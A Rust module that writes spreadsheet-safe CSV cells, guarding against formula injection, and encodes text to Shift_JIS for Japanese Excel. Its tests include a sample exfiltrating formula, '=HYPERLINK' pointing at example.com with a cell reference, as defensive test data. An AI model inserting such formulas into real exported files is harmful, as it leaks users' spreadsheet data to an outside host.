//! What goes out into a spreadsheet: cells that no spreadsheet takes for a formula, and text in Shift_JIS (code page
//! 932), which is what Excel in Japan expects of a CSV file.

use crate::text::is_invisible;
use encoding_rs::SHIFT_JIS;
use std::borrow::Cow;
use unicode_normalization::char::{canonical_combining_class, compose};

/// Written in the place of a character that Shift_JIS does not have (下駄, as printers do it).
pub const MISSING: char = '〓';

/// A cell that no spreadsheet takes for a formula: `'` before it where it would be one (OWASP, "CSV Injection").
///
/// Guarded is what begins with `= + - @`, their full-width forms, a tab, a line break or NUL; also after white space,
/// control characters and characters that nobody sees, which spreadsheets may drop before they look. Everything else
/// stays as it is. Numbers such as `-1.5` and phone numbers such as `+81…` are guarded too; a number of our own is
/// written without this function. Whoever writes the file must still put cells into quotation marks where CSV asks for
/// it.
pub fn safe_cell(cell: &str) -> Cow<'_, str> {
    for c in cell.chars() {
        if begins_formula(c) {
            return Cow::Owned(format!("'{cell}"));
        }
        if !(c.is_whitespace() || c.is_control() || is_invisible(c)) {
            break;
        }
    }
    Cow::Borrowed(cell)
}

fn begins_formula(c: char) -> bool {
    matches!(
        c,
        '=' | '+' | '-' | '@' | '＝' | '＋' | '－' | '＠' | '\t' | '\r' | '\n' | '\0'
        // The mathematical minus, which Shift_JIS writes as the full-width one.
        | '\u{2212}'
    )
}

/// A text in Shift_JIS (code page 932), and the characters that it does not have: each once, in the order of their first
/// appearance. In their places stands [`MISSING`]; characters that nobody sees, such as the selectors of a kanji's shape,
/// are left out instead, but are in the list too.
///
/// Characters that computers disagree about are written as Windows does: `〜` of a Mac as `～`. Combining marks join the
/// letter before them, so that `か` and its mark, as a Mac may write them, become `が`.
pub fn to_shift_jis(text: &str) -> (Vec<u8>, Vec<char>) {
    let mut bytes = Vec::with_capacity(text.len());
    let mut missing = Vec::new();
    let mut chars = text.chars().peekable();
    while let Some(mut c) = chars.next() {
        // Not NFC: it would replace 神 by 神, which Shift_JIS has both, and somebody's name is written with one of them.
        while let Some(joined) = chars
            .peek()
            .filter(|mark| canonical_combining_class(**mark) != 0)
            .and_then(|mark| compose(c, *mark))
        {
            c = joined;
            chars.next();
        }
        if !write(as_windows_writes(c), &mut bytes) {
            if !is_invisible(c) {
                write(MISSING, &mut bytes);
            }
            if !missing.contains(&c) {
                missing.push(c);
            }
        }
    }
    (bytes, missing)
}

/// Writes a character, or tells that Shift_JIS does not have it.
fn write(c: char, bytes: &mut Vec<u8>) -> bool {
    let mut buffer = [0; 4];
    let (encoded, _, is_missing) = SHIFT_JIS.encode(c.encode_utf8(&mut buffer));
    if !is_missing {
        bytes.extend_from_slice(&encoded);
    }
    !is_missing
}

/// Seven characters of JIS X 0208 have two places in Unicode: one by the standard, one by Windows. `encoding_rs` knows
/// those of Windows, and of the others only the minus.
const fn as_windows_writes(c: char) -> char {
    match c {
        '\u{301C}' => '\u{FF5E}', // wave dash
        '\u{2014}' => '\u{2015}', // dash
        '\u{2016}' => '\u{2225}', // double vertical line
        '\u{00A2}' => '\u{FFE0}', // cent
        '\u{00A3}' => '\u{FFE1}', // pound
        '\u{00AC}' => '\u{FFE2}', // not
        other => other,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn no_cell_is_a_formula() {
        for cell in [
            "=1+1",
            "=HYPERLINK(\"http://example.com/?\"&A1)",
            "+81 90 1234 5678",
            "-1.5",
            "@SUM(A1)",
            "＝1",
            "＋1",
            "－1",
            "＠x",
            "−1",
            "\t=1",
            "\rx",
            "\nx",
            "\0x",
            "  =1",
            "\u{3000}=1",
            "\u{A0}=1",
            "\u{FEFF}=1",
            "\u{200B}=1",
            "\u{1}=1",
            " \tx",
        ] {
            assert_eq!(safe_cell(cell), format!("'{cell}"), "{cell:?}");
        }
    }

    #[test]
    fn other_cells_stay_as_they_are() {
        for cell in [
            "",
            " ",
            "山﨑 一郎",
            "  山田",
            "36.8",
            "a=b",
            "090-1234-5678",
            "'=1",
            "a\n=b",
            "ー",
        ] {
            assert!(
                matches!(safe_cell(cell), Cow::Borrowed(same) if same == cell),
                "{cell:?}"
            );
        }
    }

    #[test]
    fn what_shift_jis_does_not_have_is_told() {
        #[rustfmt::skip]
        let table: &[(&str, &str, &[char])] = &[
            ("", "", &[]),
            ("山田 花子, ﾔﾏﾀﾞ\r\n", "山田 花子, ﾔﾏﾀﾞ\r\n", &[]),
            // NEC's and IBM's additions of code page 932.
            ("山﨑 髙橋 ①", "山﨑 髙橋 ①", &[]),
            ("𠮷田 𠮷𠮷", "〓田 〓〓", &['𠮷']),
            ("Nguyễn Thị Hương", "Nguy〓n Th〓 H〓〓ng", &['ễ', 'ị', 'ư', 'ơ']),
            // The same in pieces, as a Mac may write it.
            ("Nguye\u{302}\u{303}n", "Nguy〓n", &['ễ']),
            ("か\u{3099}", "が", &[]),
            ("熱 😷 😷 咳 👍", "熱 〓 〓 咳 〓", &['😷', '👍']),
            // A kanji of one shape, and the other shape by a selector.
            ("神と神", "神と神", &[]),
            ("葛\u{E0100}城", "葛城", &['\u{E0100}']),
            ("10〜12時 — 5−3 £", "10～12時 ― 5－3 ￡", &[]),
            ("〓", "〓", &[]),
            ("한국", "〓〓", &['한', '국']),
        ];
        for (text, written, missing) in table {
            let (bytes, told) = to_shift_jis(text);
            let (read, _, bad) = SHIFT_JIS.decode(&bytes);
            assert!(!bad, "{text}");
            assert_eq!(read, *written, "{text}");
            assert_eq!(told, *missing, "{text}");
        }
        assert_eq!(to_shift_jis("﨑").0, [0xFA, 0xB1]);
    }

    proptest! {
        #[test]
        fn every_text_can_be_written(text in "\\PC{0,40}") {
            let (bytes, missing) = to_shift_jis(&safe_cell(&text));
            prop_assert!(!SHIFT_JIS.decode(&bytes).2);
            for c in missing {
                prop_assert!(SHIFT_JIS.encode(c.encode_utf8(&mut [0; 4])).2);
            }
        }
    }
}
